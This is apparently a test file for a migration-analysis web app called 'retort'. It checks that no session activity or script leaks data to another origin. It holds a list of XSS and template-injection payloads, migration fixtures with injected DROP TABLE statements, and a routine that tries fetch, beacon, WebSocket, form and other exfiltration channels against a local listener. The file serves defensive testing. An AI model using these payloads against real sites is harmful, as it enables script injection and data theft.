// What another origin sees while the page lives through a whole session with inputs that want to get out:
// nothing. Judged there, since a page cannot tell: `sendBeacon` says yes even when it is blocked.
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import path from "node:path";
import { after, before, test } from "node:test";
import { pathToFileURL } from "node:url";
import { assertClean, launch, serveUnder, singleFile, tab, watch } from "./harness.mjs";

let browser;
let server;
let ear;
before(async () => {
  [browser, server, ear] = await Promise.all([launch(), serveUnder("/"), listen()]);
});
after(async () => {
  await browser.close();
  await Promise.all([server.close(), ear.close()]);
});

/** Another origin that records whatever reaches it, connections without a request included. */
function listen() {
  const heard = [];
  const other = createServer((request, response) => {
    heard.push(`${request.method} ${request.url}`);
    response.writeHead(200, { "access-control-allow-origin": "*" }).end();
  });
  other.on("upgrade", (request, socket) => {
    heard.push(`upgrade ${request.url}`);
    socket.destroy();
  });
  other.on("connection", () => heard.push("connection"));
  return new Promise((done) => {
    other.listen(0, "127.0.0.1", () => {
      const close = () => new Promise((closed) => (other.close(closed), other.closeAllConnections()));
      done({ heard, origin: `http://127.0.0.1:${other.address().port}`, close });
    });
  });
}

/** Text that asks a careless page for `url`, in every way that a name, a comment or a title could. */
const lures = (url) => [
  `<img src="${url}/img">`,
  `"><script src="${url}/script"></script>`,
  `<style>@import "${url}/css"; body { background: url(${url}/bg) }</style>`,
  `<iframe src="${url}/frame"></iframe><object data="${url}/object"></object>`,
  `<link rel="prefetch" href="${url}/prefetch"><link rel="preconnect" href="${url}">`,
  `<svg><image href="${url}/svg" /><use href="${url}/use#x" /></svg>`,
  `<form action="${url}/form"><input autofocus onfocus="this.form.submit()"></form>`,
  `<meta http-equiv="refresh" content="0;url=${url}/refresh"><base href="${url}/">`,
  `<img src=x onerror="fetch('${url}/fetch')">`,
  `![x](${url}/md) [x](${url}/link) <${url}/auto>`,
  `javascript:fetch('${url}/js')//`,
  `{{constructor.constructor("fetch('${url}/template')")()}}`,
];

/** A folder of migrations, a dump, an audit and settings whose every name, comment and message is a lure. */
function inputs(url) {
  const files = lures(url).map((lure, n) => {
    const text = JSON.stringify(lure);
    const name = JSON.stringify(`t${n} ${lure}`.slice(0, 200));
    return [
      `${n}_${n % 2 ? "x" : "<img src=q onerror=1>"}.py`,
      `"""${lure.replaceAll('"', "'")}"""\nfrom alembic import op\nimport sqlalchemy as sa\n` +
        `revision = "r${n}"\ndown_revision = ${n ? `"r${n - 1}"` : "None"}\nbranch_labels = (${text},)\n` +
        `def upgrade():\n    op.create_table(${name}, sa.Column(${text}, sa.String(), server_default=${text}, comment=${text}))\n` +
        `    op.execute(${JSON.stringify(`DROP TABLE "${lure.replaceAll('"', '""')}" -- ${lure}`)})\n` +
        `    op.drop_column(${name}, ${text})\n` +
        `def downgrade():\n    op.drop_table(${name})\n`,
    ];
  });
  const sql = lures(url).map((lure, n) => `CREATE TABLE "${lure.replaceAll('"', '""')}" (a int); COMMENT ON TABLE x${n} IS '${lure.replaceAll("'", "''")}'; DROP TABLE y${n}; -- ${lure}`);
  return [...files, ["plan.sql", sql.join("\n")], ["retort.toml", `[protect]\n"*" = ${JSON.stringify(lures(url)[0])}\n`]];
}

const TABS = ["findings", "chain", "plan", "schema", "fixes", "inputs"];

async function ready(page) {
  await page.waitForSelector("html[data-ready]", { state: "attached" });
}

/** Opens every tab, what each shows first, and whatever leads on. */
async function lookAround(page) {
  for (const name of TABS) {
    const there = page.locator(`[data-testid=tab-${name}]`);
    if (!(await there.count())) continue;
    await tab(page, name);
    for (const row of ["finding", "revision", "input"]) {
      const first = page.getByTestId(row).first();
      if (await first.count()) await first.click();
    }
    for (const fold of await page.locator("main details:not([open]) > summary").all()) {
      if (await fold.isVisible()) await fold.click();
    }
  }
}

/** A whole life: pasted, chosen, read, changed, shared, saved, received, broken. Returns link and files. */
async function live(page, url, address) {
  await page.goto(address);
  await ready(page);
  await page.getByTestId("sample-two-heads").click();
  await page.getByTestId("verdict").waitFor();
  await page.getByRole("button", { name: "Start over" }).click();
  const [chooser] = await Promise.all([page.waitForEvent("filechooser"), page.getByTestId("choose-files").click()]);
  await chooser.setFiles(inputs(url).map(([name, text]) => ({ name: name.replaceAll("/", "_"), mimeType: "text/html", buffer: Buffer.from(text) })));
  await page.getByTestId("verdict").waitFor();
  await lookAround(page);
  const saved = [];
  await page.getByTestId("share").click();
  const dialog = page.getByTestId("dialog");
  await dialog.getByText("Choose what is in it").click();
  await dialog.getByTestId("sources").check();
  await dialog.getByText("Excerpts and statements").waitFor();
  for (const format of ["markdown", "html", "sarif", "json", "svg"]) {
    const [file] = await Promise.all([page.waitForEvent("download"), dialog.getByTestId(format).click()]);
    const kept = path.join(tmpdir(), `retort-egress-${process.pid}-${file.suggestedFilename()}`);
    await file.saveAs(kept);
    saved.push(kept);
  }
  await dialog.locator("summary", { hasText: "Show the link" }).click();
  const link = await dialog.getByLabel("Show the link").inputValue();
  await page.keyboard.press("Escape");
  await page.goto("about:blank");
  await page.goto(link);
  await ready(page);
  await page.getByTestId("received").waitFor();
  await lookAround(page);
  for (const broken of [link.slice(0, -50), `${address}#${encodeURIComponent(lures(url)[0])}`, `${address}#/findings?q=${encodeURIComponent(lures(url)[8])}`]) {
    await page.goto("about:blank");
    await page.goto(broken);
    await ready(page);
  }
  return saved;
}

for (const [what, address] of [["the hosted page", () => server.address], ["the single file", () => singleFile]]) {
  test(`another origin hears nothing of a whole session in ${what}`, async () => {
    ear.heard.length = 0;
    const { page, record, close } = await watch(browser, { context: { acceptDownloads: true } });
    page.setDefaultTimeout(30_000);
    const saved = await live(page, ear.origin, address());
    // Files that were saved are opened as well: they carry the same text.
    const files = saved.map((file) => pathToFileURL(file).href);
    for (const file of files.filter((file) => /\.(html|svg)$/.test(file))) {
      await page.goto(file);
      await page.waitForTimeout(200);
      assert.equal(await page.evaluate(() => document.querySelectorAll("script, iframe, object, [onerror], [onfocus]").length), 0);
    }
    assert.deepEqual(ear.heard, []);
    record.requests = record.requests.filter((url) => !files.includes(url) && url !== "about:blank");
    assertClean(record, address());
    await close();
  });
}

/** Every way out that a script has, one by one. */
async function tryAll(url) {
  const element = (name, set) => document.body.append(Object.assign(document.createElement(name), set));
  const ways = [
    () => fetch(`${url}/fetch`, { mode: "no-cors" }),
    () => {
      const request = new XMLHttpRequest();
      request.open("POST", `${url}/xhr`);
      request.send("report");
    },
    () => navigator.sendBeacon(`${url}/beacon`, "report"),
    () => new WebSocket(`${url.replace("http", "ws")}/socket`),
    () => new EventSource(`${url}/events`),
    () => Object.assign(new Image(), { src: `${url}/image` }),
    () => element("script", { src: `${url}/script` }),
    () => element("link", { rel: "stylesheet", href: `${url}/style` }),
    () => element("link", { rel: "prefetch", href: `${url}/prefetch` }),
    () => element("iframe", { src: `${url}/frame` }),
    () => element("object", { data: `${url}/object` }),
    () => element("video", { src: `${url}/video` }),
    () => {
      const form = Object.assign(document.createElement("form"), { action: `${url}/form`, method: "post" });
      document.body.append(form);
      form.submit();
    },
    () => new Worker(`${url}/worker.js`),
    () => document.fonts.add(new FontFace("x", `url(${url}/font)`)) && document.fonts.load("1em x"),
  ];
  for (const way of ways) {
    try {
      await Promise.race([way(), new Promise((done) => setTimeout(done, 200))]);
    } catch {
      // Refused, which is the point; who heard of it is asked on the other side.
    }
  }
  return [typeof RTCPeerConnection, typeof webkitRTCPeerConnection, typeof WebTransport];
}

for (const [what, address] of [["the hosted page", () => server.address], ["the single file", () => singleFile]]) {
  test(`whatever a script in ${what} tries, another origin hears nothing`, async () => {
    ear.heard.length = 0;
    const { page, close } = await watch(browser);
    await page.goto(address());
    await ready(page);
    assert.deepEqual(await page.evaluate(tryAll, ear.origin), ["undefined", "undefined", "undefined"]);
    await page.waitForTimeout(500);
    // The browser opens a connection to where a form or a frame would lead before it asks the policy, and sends
    // nothing over it. The page itself, above, does not even that.
    assert.deepEqual(ear.heard.filter((line) => line !== "connection"), []);
    await close();
  });
}

test("the other origin would have heard it", async () => {
  ear.heard.length = 0;
  const { page, close } = await watch(browser);
  // Another page of this machine, without a policy.
  const plain = createServer((_, answer) => answer.setHeader("content-type", "text/html").end("<body></body>"));
  await new Promise((done) => plain.listen(0, "127.0.0.1", done));
  await page.goto(`http://127.0.0.1:${plain.address().port}/`);
  // Without a policy the form leads away while the rest is still being asked for.
  await page.evaluate(tryAll, ear.origin).catch(() => {});
  await page.waitForTimeout(500);
  const ways = ["fetch", "xhr", "beacon", "socket", "events", "image", "script", "style", "frame", "form"];
  const missed = ways.filter((way) => !ear.heard.some((line) => line.includes(`/${way}`)));
  assert.deepEqual(missed, []);
  await close();
  await new Promise((done) => plain.close(done));
});
